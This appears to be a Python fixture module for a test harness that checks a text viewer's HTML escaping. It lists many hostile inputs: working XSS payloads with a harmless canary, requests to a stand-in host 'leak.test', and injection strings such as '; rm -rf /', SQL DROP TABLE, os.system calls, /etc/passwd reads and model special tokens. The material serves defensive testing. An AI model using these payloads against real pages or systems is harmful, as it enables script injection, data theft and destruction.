r"""`HOSTILE`: texts made to do harm to whoever shows them, each with a place where they do.

Many do nothing wherever they are escaped, or nothing at all in a page; so each that can do
harm in a page has the markup in which it does. The tests open that first: a harness that
does not see it there would see nothing anywhere.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from enum import Enum

__all__ = ["HOSTILE", "IMAGE", "SHORT", "Harm", "Hostile", "as_shown"]


LONE = re.compile("[\ud800-\udfff]")
"""What UTF-8 has no form for."""


class Harm(Enum):
    """What an unescaped text does, as the harness tells it."""

    RUNS = "runs"
    """A script."""

    ASKS = "asks"
    """A request, or the page is left."""

    DIFFERS = "differs"
    """The page's text is another, or there are elements in it."""

    NONE = "none"
    """In a page of HTML nothing: others read it as a formula, or it is hard to draw."""


@dataclass(frozen=True)
class Hostile:
    """A text, the harm that it does in a page, and the markup in which it does."""

    text: str
    harm: Harm = Harm.NONE
    around: str = '<div class="cs-text">%s</div>'

    @property
    def unescaped(self) -> str:
        """A page in which the text is markup."""
        held = LONE.sub("\ufffd", self.text)
        return f"<!DOCTYPE html><meta charset=utf-8><body>{self.around.replace('%s', held)}"


def as_shown(text: str) -> str:
    """What a page of HTML in UTF-8 can hold of a text: NUL as U+2400, no lone surrogate."""
    return LONE.sub("\ufffd", text.replace("\0", "\u2400"))


RUN = "__ran=1"
"""The canary: assigning to it is seen, see `tests.browser.watching`."""

TO = "//leak.test/"
"""A host that nothing may be asked of."""

IMAGE = f"<img src=x: onerror={RUN}>"

_ELEMENTS = (
    *("script", "style", "title", "textarea", "svg", "text", "g", "div", "span", "u", "i", "bdi"),
    *("b", "p", "h1", "h2", "h3", "code", "ul", "li", "a", "details", "summary", "header", "main"),
    *("nav", "section", "article", "figure", "footer", "table", "caption", "thead", "tbody", "tr"),
    *("th", "td", "button", "select", "option", "output", "fieldset", "legend", "label"),
    *("template", "noscript", "iframe", "xmp", "head", "body", "html"),
)
"""What pages and widgets of ours are made of, and what swallows text."""


def _runs(text: str, around: str = Hostile.around) -> Hostile:
    return Hostile(text, Harm.RUNS, around)


def _asks(text: str, around: str = Hostile.around) -> Hostile:
    return Hostile(text, Harm.ASKS, around)


def _differs(text: str, around: str = Hostile.around) -> Hostile:
    return Hostile(text, Harm.DIFFERS, around)


_CLICKED = '<a href="%s">a</a><script>document.querySelector("a").click()</script>'

_SCRIPTS = {
    "script": _runs(f"<script>{RUN}</script>"),
    "script in odd letters": _runs(f"<ScRiPt\t>{RUN}</sCrIpT\n>"),
    "script without an end": _runs(f"<script>{RUN}//", '<div class="cs-text">%s</script></div>'),
    "script module": _runs(f"<script type=module>{RUN}</script>"),
    "script within a script": _differs(f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    "img onerror": _runs(f"a {IMAGE} b"),
    "img onerror, slashes": _runs(f'<img/src="x:"/onerror={RUN}>'),
    "svg onload": _runs(f"<svg onload={RUN}>"),
    "svg script": _runs(f"<svg><script>{RUN}</script></svg>"),
    "svg animate": _runs(f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>"),
    "svg foreignObject": _runs(f"<svg><foreignObject>{IMAGE}</foreignObject></svg>"),
    "math and style, mutating": _runs(f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}"),
    "noscript, mutating": _runs(f'<noscript><p title="</noscript>{IMAGE}">'),
    "body onload": _runs(f"<body onload={RUN}>"),
    "details ontoggle": _runs(f"<details open ontoggle={RUN}>a</details>"),
    "input autofocus": _runs(f"<input autofocus onfocus={RUN}>"),
    "tabindex autofocus": _runs(f"<p tabindex=1 autofocus onfocus={RUN}>a</p>"),
    "video source": _runs(f"<video><source onerror={RUN} src=x:></video>"),
    "animation": _runs(
        f"<style>@keyframes k{{}}</style><p style=animation:k.1s onanimationstart={RUN}>a"
    ),
    "declarative shadow root": _runs(
        f"<p><template shadowrootmode=open>{IMAGE}</template></p>",
        '<div class="cs-text">%s</div>',
    ),
    "iframe srcdoc": _runs(f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'),
    "iframe javascript": _runs(f'<iframe src="javascript:parent.{RUN}"></iframe>'),
    "object": _runs('<object data="data:text/html,<script>console.log(1)</script>"></object>'),
    "embed": _runs('<embed src="data:text/html,<script>console.log(1)</script>">'),
    "a form that sends itself": _asks(
        f"<form action={TO}f><input autofocus name=a onfocus=this.form.submit()></form>"
    ),
    "clobbering": _differs(
        "<form id=documentElement><input name=attributes><input name=id></form>"
        "<a id=__ran></a><img name=body><a id=model><a id=model name=get href=x:>"
    ),
}

_REQUESTS = {
    "img src": _asks(f"<img src={TO}i>"),
    "img srcset": _asks(f'<img srcset="{TO}s 1x">'),
    "svg image": _asks(f"<svg><image href={TO}s width=9 height=9 /></svg>"),
    "script src": _asks(f"<script src={TO}s.js></script>"),
    "style import": _asks(f"<style>@import url({TO}c);</style>"),
    "style background": _asks(f"<style>*{{background:url({TO}b)}}</style>"),
    "style attribute": _asks(f"<p style='background:url({TO}b)'>a</p>"),
    "link stylesheet": _asks(f"<link rel=stylesheet href={TO}c>"),
    "link prefetch": _asks(f"<link rel=preload as=image href={TO}p>"),
    "link dns-prefetch": _differs(f"<link rel=dns-prefetch href={TO}d>"),
    "base": _asks(f"<base href={TO}><img src=b>"),
    "iframe": _asks(f"<iframe src={TO}f></iframe>"),
    "object data": _asks(f"<object data={TO}o></object>"),
    "audio": _asks(f"<audio autoplay src={TO}a></audio>"),
    "video poster": _asks(f"<video poster={TO}v></video>"),
    "input image": _asks(f"<input type=image src={TO}i>"),
    "meta refresh": _asks(f'<meta http-equiv=refresh content="0;url={TO}m">'),
    "css of a style": _asks(f"}}*{{background:url({TO}c)}}", "<style>a{%s}</style>a"),
    "css import": _asks(f'@import "{TO}i";', "<style>%s</style>"),
    "css url": _asks(f"url({TO}u)", '<p style="background:%s">a</p>'),
    "css of a colour": _asks(f"red;background:url({TO}c)", '<p style="color:%s">a</p>'),
    "address": _asks(f"{TO}x", '<img src="%s">'),
    "address, https": _asks("https://leak.test/?q=1&copy=2", "<img src='%s'>"),
}

_ATTRIBUTES = {
    "quote and handler": _runs(f'a" tabindex=1 autofocus onfocus="{RUN}', '<p title="%s">a</p>'),
    "apostrophe and handler": _runs(
        f"a' tabindex=1 autofocus onfocus='{RUN}", "<p title='%s'>a</p>"
    ),
    "blank and handler": _runs(f"a tabindex=1 autofocus onfocus={RUN}", "<p title=%s>a</p>"),
    "quote and tag": _runs(f'"><script>{RUN}</script>', '<p title="%s">a</p>'),
    "apostrophe and tag": _runs(f"'><script>{RUN}</script>", "<p title='%s'>a</p>"),
    "backslash and quote": _runs(f'\\"><script>{RUN}</script>', '<p title="%s">a</p>'),
    "backtick": _runs(f"`;{RUN};`", "<script>let a=`%s`</script>"),
    "javascript link": _runs(f"javascript:{RUN}", _CLICKED),
    "javascript link, disguised": _runs(f" \x01JaVa\tScRi\npt:{RUN}", _CLICKED),
    "data link": _runs("data:text/html,<script>console.log(1)</script>", "<iframe src='%s'>"),
    "template string": _runs(f"${{{RUN}}}", "<script>`%s`</script>"),
    "string of a script": _runs(f"';{RUN};//", "<script>let a='%s'</script>"),
    "line separators in a script": _runs(f"\u2028{RUN}\u2029", "<script>// %s</script>"),
}

_ENDS = {
    "</script>": _runs(f"</script>{IMAGE}", '<script type="application/json">"%s"</script>'),
    "</style>": _runs(f"</style>{IMAGE}", "<style>%s</style>"),
    "</title>": _runs(f"</title>{IMAGE}", "<title>%s</title>"),
    "</textarea>": _runs(f"</textarea>{IMAGE}", "<textarea>%s</textarea>"),
    "</svg>": _runs(f"</text></svg>{IMAGE}", "<svg><text>%s</text></svg>"),
    "</noscript>": _runs(f"</noscript>{IMAGE}", "<noscript>%s</noscript>"),
    "</template>": _runs(f"</template>{IMAGE}", "<template>%s</template>"),
    "</select>": _runs(f"</option></select>{IMAGE}", "<select><option>%s</select>"),
    "-->": _runs(f"-->{IMAGE}", "<!-- %s -->"),
    "--!>": _runs(f"--!>{IMAGE}", "<!-- %s -->"),
    "]]>": _runs(f"]]>{IMAGE}", "<svg><![CDATA[%s]]></svg>"),
    "every end": _runs("".join(f"</{name}>" for name in _ELEMENTS) + IMAGE),
    "an end of a div": _differs("</div>a"),
    "ends of all around": _differs("</div></div></main></body></html>a"),
}

_MARKUP = {
    "bold": _differs("<b>a</b>"),
    "a comment without an end": _differs("a <!-- b"),
    "a comment": _differs("a<!---->b<!-->c"),
    "cdata": _differs("<![CDATA[a]]>"),
    "processing instruction": _differs('<?xml version="1.0"?><?php a ?>'),
    "doctype with an entity": _differs(
        '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
    ),
    "style that hides": _differs("<style>.chunkscope{display:none}</style>"),
    "template": _differs("<template><b>a</b></template>"),
    "plaintext": _differs("<plaintext>a"),
    "textarea": _differs("<textarea>a"),
    "select": _differs("<select><option>a"),
    "table that throws out": _differs("<table>a<tr>b<td>c"),
    "frameset": _differs("<frameset><frame></frameset>"),
    "a thousand elements deep": _differs("<b><i>" * 500 + "a"),
    "a tag without an end": _differs("a <b title='"),
    "entities": _differs("&lt;script&gt; &amp;amp; &#60;b&#62; &#x3c;"),
    "entities without an end": _differs("&ltb&gt &notit &copy2 &AMP"),
    "entities of controls": _differs("&#0;&#128;&#xD800;&#13;&#x202e;&NewLine;&Tab;&nbsp;"),
    "a badge of ours": _differs('<span class="cs-cut cs-of-a" data-label="9 hard"></span>'),
    "a sign of ours": _differs('<i class="cs-x" data-g="NUL" title="U+0000">\u2400</i>'),
    "a text of ours": _differs('</span></div><div class="cs-text" dir="auto"><span class="cs-b">'),
    "a button of ours": _differs(
        '<button type="button" class="cs-button" data-event=\'{"event":"clear"}\'>a</button>'
    ),
    "an attribute of ours": _differs(
        '0" data-chunk="9" data-copy="a" data-event="{&quot;event&quot;:1}', '<p title="%s">a</p>'
    ),
}

_SOURCES = {
    "class of ours": _differs('class="cs-cut" class="cs-b" cs-x data-g="→" <u '),
    "event of ours": Hostile('{"event":"set","name":"chunk_size","value":1}'),
    "placeholder of ours": Hostile("\ufffd\u2400↵→°…[NUL]"),
    "jinja": Hostile("{{7*7}} {% for i in range(9) %}{{ i }}{% endfor %} {# a #}"),
    "jinja, classes": Hostile("{{ ''.__class__.__mro__[1].__subclasses__() }} {%- raw -%}"),
    "other templates": Hostile("#{7*7} <%= 7*7 %> [[7*7]] @(7*7) *{7*7} {{{7*7}}} {$a}"),
    "dollars": Hostile("$x$ and $$y^2$$, $5 to $6"),
    "a dollar": Hostile("costs $5"),
    "mathematics that is wrong": Hostile("$\\frac{$ $\\nosuch{x}$ ${$ $}$ $_$ $^$ \\$"),
    "parentheses of mathjax": Hostile(f"\\(x\\) \\[y\\] $\\href{{javascript:{RUN}}}{{a}}$"),
    "environment of mathjax": Hostile(
        "\\begin{align}a&=b\\\\c\\end{align} \\require{html} \\unicode{x41} \\style{color:red}{a}"
    ),
    "tex": Hostile("\\input{/etc/passwd} \\write18{a} % # & _ ^ ~ {} \\alpha"),
    "markdown image": Hostile(f"![a]({TO}m) ![b][c]\n\n[c]: {TO}c"),
    "markdown link": _differs(f"[a](javascript:{RUN}) <javascript:{RUN}> <http://leak.test>"),
    "markdown blocks": Hostile("# a\n\n- b\n1. c\n> d\n\n    e\n***\n| f | g |\n|---|---|\n| h"),
    "markdown fences": _runs(f"```\na\n```\n\n{IMAGE}\n\n~~~~ html\n{IMAGE}\n~~~~\n`` ` ``"),
    "markdown html": _runs(f"<div>\n\n{IMAGE}\n\n</div>\n\n<details>*a*"),
    "markdown that a forge reads": Hostile("@user #1 GH-1 :tada: www.leak.test [^1] ~~a~~ - [x] b"),
    "ansi colours": Hostile("\x1b[31mred\x1b[0m \x9b32m \x1b[2J\x1b[H"),
    "ansi link and title": Hostile("\x1b]8;;http://leak.test\x07a\x1b]8;;\x07\x1b]0;b\x07"),
    "carriage returns": _differs("safe\rharm\r\r\nb\n\rc"),
    "backspaces": Hostile("safe\b\b\b\bharm\x7f\x7f"),
    "format strings": Hostile("{0} {} {a.b} {self.__init__.__globals__} %s %n %(a)d %% {{}} {"),
    "python": Hostile("__import__('os').system('a') \\x41 \\N{BULLET} \\ ''' \"\"\""),
    "sql": Hostile("'); DROP TABLE chunks;-- ' OR '1'='1"),
    "shell": Hostile("; rm -rf / $(a) `a` && a | a > a & ~ * ? ! -rf"),
    "spreadsheet": Hostile('=HYPERLINK("http://leak.test","a")'),
    "json": Hostile('"}],"a":{"__proto__":{"ran":1}},"\\u0000'),
    "yaml": Hostile("!!python/object/apply:os.system ['a']\n--- *a &b"),
    "special tokens": _differs("<|endoftext|> <|fim_prefix|> <s>[INST]"),
    "__proto__": Hostile("__proto__"),
    "constructor": Hostile("constructor"),
    "toString": Hostile("toString"),
    "path": Hostile("../../../x"),
    "path of windows": Hostile("..\\..\\x C:\\a \\\\host\\a"),
    "reserved name": Hostile("CON"),
    "reserved name with an ending": Hostile("nul.txt"),
    "glob": Hostile("*?[a-z]**"),
    "underscore": Hostile("_nolegend_"),
    "blanks around": Hostile("  a  "),
    "a blank": Hostile(" "),
    "a number": Hostile("1e309"),
    "nothing to pandas": Hostile("NaN"),
}

_CHARACTERS = {
    "NUL": _differs("a\0b\0\0c"),
    "C0": _differs("".join(map(chr, range(1, 32)))),
    "C1": Hostile("".join(map(chr, range(127, 160)))),
    "lone high surrogate": Hostile("a\ud800b"),
    "lone surrogates": Hostile("\udfff\ud83d \ude00a\udc00\udc00"),
    "noncharacters": Hostile("\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffff"),
    "private use": Hostile("\ue000\uf8ff\U000f0000\U0010fffd"),
    "bidi override": Hostile("a\u202egpj.exe"),
    "bidi, left open": Hostile("\u202b\u202e\u2067\u2066\u2068a\u202a"),
    "bidi, closed too often": Hostile("\u2069\u202c\u2069\u202ca"),
    "bidi, source that lies": Hostile("if a\u202e \u2066// b\u2069 \u2066: c"),
    "marks of direction": Hostile("\u200ea\u200f\u061cb"),
    "right to left": Hostile("مرحبا بالعالم, שלום 123 (a)."),
    "zero width": Hostile("a\u200bb\u200cc\u200dd\u2060e\u00adf\u034fg\u180eh"),
    "byte order marks": Hostile("\ufeffa\ufeff"),
    "blanks of every kind": Hostile("\xa0\u1680\u2000\u2003\u2007\u202f\u205f\u3000\u3164\u115fa"),
    "line ends of every kind": _differs("a\nb\rc\r\nd\x0be\x0cf\x85g\u2028h\u2029i"),
    "tags": Hostile("a\U000e0041\U000e007f🏴\U000e0067\U000e0062\U000e007f"),
    "variation selectors": Hostile("a\ufe0f☂\ufe0e葛\U000e0100b\U000e01ef"),
    "annotation": Hostile("\ufff9a\ufffab\ufffb\ufffc"),
    "emoji joined": Hostile("👩‍👩‍👧‍👦👩🏽‍🚀🏴‍☠️🇩🇪🇩❤️‍🔥"),
    "half an emoji": Hostile("👩‍"),
    "letters that look alike": Hostile("раураl ℌ ﷽ 𒐫 ⅷ ﬁ"),
    "scripts without a font": Hostile("𐎠𐏃 ᜊ 𖬀 ꙮ"),
    "a mark first": Hostile("\u0301a\u0338"),
}

_LONG = {
    "a line of 200,000 characters": Hostile("x" * 200_000),
    "a line of 200,000 ideographs": Hostile("海" * 200_000),
    "a mark 3,000 times": Hostile("Z" + "\u0351\u036b\u0343" * 1000 + "a"),
    "emoji joined 2,000 times": Hostile("👩" + "‍👩" * 2000),
    "line ends": Hostile("a" + "\n" * 20_000 + "b"),
    "line ends with signs": _differs("\r\n" * 3000),
    "tabs": Hostile("\t" * 20_000 + "a"),
    "blanks": Hostile(" " * 50_000 + "a"),
    "zero width, often": Hostile("\u200b\u200d" * 3000),
    "embeddings, deep": Hostile("\u202b" * 500 + "a" + "\u2067" * 500),
    "angle brackets": _differs("<" * 20_000 + "b>"),
    "ampersands": Hostile("&" * 20_000),
}

HOSTILE: dict[str, Hostile] = {
    **_SCRIPTS,
    **_REQUESTS,
    **_ATTRIBUTES,
    **_ENDS,
    **_MARKUP,
    **_SOURCES,
    **_CHARACTERS,
    **_LONG,
}
"""Name -> a text. Distinct, and none is empty."""

SHORT = {name: each.text for name, each in HOSTILE.items() if len(each.text) <= 1000}
"""Name -> those that may be names and ids, too."""
